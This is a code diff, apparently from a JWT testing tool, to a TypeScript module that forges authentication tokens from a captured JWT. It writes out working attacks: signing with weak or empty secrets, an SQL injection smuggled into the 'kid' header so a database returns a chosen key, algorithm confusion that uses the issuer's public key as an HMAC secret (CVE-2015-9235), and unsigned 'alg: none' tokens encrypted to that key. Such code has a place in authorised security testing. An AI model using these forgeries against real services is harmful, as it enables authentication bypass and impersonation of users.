@@ -1,9 +1,11 @@
-import { createHmac, createPublicKey, type KeyObject } from 'node:crypto';
+import { createHmac, type KeyObject } from 'node:crypto';
+import { CompactEncrypt } from 'jose/jwe/compact/encrypt';
 import { SignJWT } from 'jose/jwt/sign';
 import { exportJWK } from 'jose/key/export';
 import { generateKeyPair } from 'jose/key/generate/keypair';
 import { type JwtParts, readMembers } from './altered-jwts.ts';
 import type { NamedToken } from './altered-tokens.ts';
+import { importPublicKey, secretsOfKey } from './secrets-of-key.ts';
 
 /** Algorithms that a pair of our own is made for as the token has it; for any other one it is this. */
 const ownAlgorithms = ['RS256', 'RS384', 'RS512', 'PS256', 'PS384', 'PS512', 'ES256', 'ES384', 'ES512', 'EdDSA'];
@@ -14,11 +16,10 @@ const usualSecrets = ['secret', 'your-256-bit-secret', 'undefined'];
 const mostKeys = 2;
 
 /**
- * Resolves to tokens with the claims of the JWT and good signatures by keys that nobody gave out, each with how it was signed.
- *
- * @param keys published keys of the issuer, to be used as shared secrets (CVE-2015-9235)
+ * Resolves to tokens with the claims of the JWT and good signatures by keys and secrets that nobody gave out, each with how
+ * it was signed.
  */
-export async function resignJwt(parts: JwtParts, keys: ReadonlyArray<Record<string, unknown>>): Promise<NamedToken[]> {
+export async function resignJwt(parts: JwtParts): Promise<NamedToken[]> {
   const [header, claims] = [readMembers(parts.header), readMembers(parts.payload)];
   const alg = ownAlgorithms.find((name) => name === header['alg']) ?? usualAlgorithm;
   const { publicKey, privateKey } = await generateKeyPair(alg, { extractable: true });
@@ -40,34 +41,77 @@ export async function resignJwt(parts: JwtParts, keys: ReadonlyArray<Record<stri
       signWithSecret({ ...header, alg: 'HS256' }, parts.payload, Buffer.from(secret)),
     ]),
     ['with an empty secret', signWithSecret({ ...header, alg: 'HS256' }, parts.payload, Buffer.alloc(0))],
-    ...keys
-      .slice(0, mostKeys)
-      .flatMap(secretsOf)
-      .map(([name, secret]): NamedToken => [name, signWithSecret({ ...header, alg: 'HS256' }, parts.payload, secret)]),
+    [
+      'with a secret that its kid has a database return',
+      signWithSecret(
+        { ...header, alg: 'HS256', kid: "x' UNION SELECT 'vivero' -- " },
+        parts.payload,
+        Buffer.from('vivero'),
+      ),
+    ],
   ];
 }
 
-/** The forms in which a verifier may hold a public key that it takes for a secret. */
-function secretsOf(jwk: Record<string, unknown>): Array<readonly [name: string, secret: Buffer]> {
-  const key = importPublicKey(jwk);
-  if (key === null) return [];
-  const pem = String(key.export({ type: 'spki', format: 'pem' }));
-  return [
-    ['with the public key as secret, in PEM', Buffer.from(pem)],
-    ['with the public key as secret, in PEM without the last line end', Buffer.from(pem.trimEnd())],
-    ['with the public key as secret, in DER', key.export({ type: 'spki', format: 'der' })],
-  ];
-}
-
-function importPublicKey(jwk: Record<string, unknown>): KeyObject | null {
-  try {
-    return createPublicKey({ key: jwk, format: 'jwk' });
-  } catch {
-    return null;
+/**
+ * Resolves to tokens with the claims of the JWT that are made of what its issuer publishes: signed with a published key for a
+ * shared secret, and unsigned ones that are encrypted to it, each with how it was made. The key that the JWT names comes
+ * first; of others the two first are tried.
+ *
+ * @param keys published keys of the issuer
+ */
+export async function forgeWithPublicKeys(
+  parts: JwtParts,
+  keys: ReadonlyArray<Record<string, unknown>>,
+): Promise<NamedToken[]> {
+  const header = readMembers(parts.header);
+  const named = keys.filter(({ kid }) => kid !== undefined && kid === header['kid']);
+  const tokens: NamedToken[] = [];
+  for (const key of named.length > 0 ? named.slice(0, 1) : keys.slice(0, mostKeys)) {
+    const secrets = secretsOfKey(key);
+    for (const [name, secret] of secrets) {
+      const token = signWithSecret({ ...header, alg: 'HS256' }, parts.payload, secret);
+      tokens.push([`with the public key as secret, ${name}`, token]);
+    }
+    // The longer hashes once: what holds the key as a file, as most do, takes any of them.
+    for (const alg of ['HS384', 'HS512'] as const) {
+      const [, secret = null] = secrets[0] ?? [];
+      if (secret !== null)
+        tokens.push([
+          `with the public key as secret, by ${alg}`,
+          signWithSecret({ ...header, alg }, parts.payload, secret),
+        ]);
+    }
+    const encrypted = await encryptUnsigned(parts.payload, key);
+    if (encrypted !== null) tokens.push(['not at all, and encrypted to the public key', encrypted]);
   }
+  return tokens;
 }
 
-function signWithSecret(header: Record<string, unknown>, payload: string, secret: Buffer): string {
+/** What is encrypted to a server shows that somebody knew its public key, and nothing of who that was. */
+async function encryptUnsigned(payload: string, jwk: Readonly<Record<string, unknown>>): Promise<string | null> {
+  const key = importPublicKey(jwk);
+  const alg = key === null ? null : encryptionFor(key);
+  if (key === null || alg === null) return null;
+  const unsigned = `${Buffer.from(JSON.stringify({ alg: 'none' })).toString('base64url')}.${payload}.`;
+  const kid = typeof jwk['kid'] === 'string' ? { kid: jwk['kid'] } : {};
+  return new CompactEncrypt(new TextEncoder().encode(unsigned))
+    .setProtectedHeader({ alg, enc: 'A256GCM', cty: 'JWT', ...kid })
+    .encrypt(key);
+}
+
+/** Returns the algorithm that a key can be encrypted to with, or `null` for a key of another kind, or one that is too short. */
+function encryptionFor({ asymmetricKeyType: type, asymmetricKeyDetails: details = {} }: KeyObject): string | null {
+  if (type === 'rsa') return (details.modulusLength ?? 0) >= 2048 ? 'RSA-OAEP-256' : null;
+  const isUsual = ['prime256v1', 'secp384r1', 'secp521r1'].includes(details.namedCurve ?? '');
+  return type === 'ec' && isUsual ? 'ECDH-ES' : null;
+}
+
+/** The hashes of the algorithms with a secret. */
+const hashes: Readonly<Record<string, string>> = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' };
+
+function signWithSecret(header: Readonly<Record<string, unknown>>, payload: string, secret: Buffer): string {
   const signed = `${Buffer.from(JSON.stringify(header)).toString('base64url')}.${payload}`;
-  return `${signed}.${createHmac('sha256', secret).update(signed).digest('base64url')}`;
+  return `${signed}.${createHmac(hashes[String(header['alg'])] ?? 'sha256', secret)
+    .update(signed)
+    .digest('base64url')}`;
 }
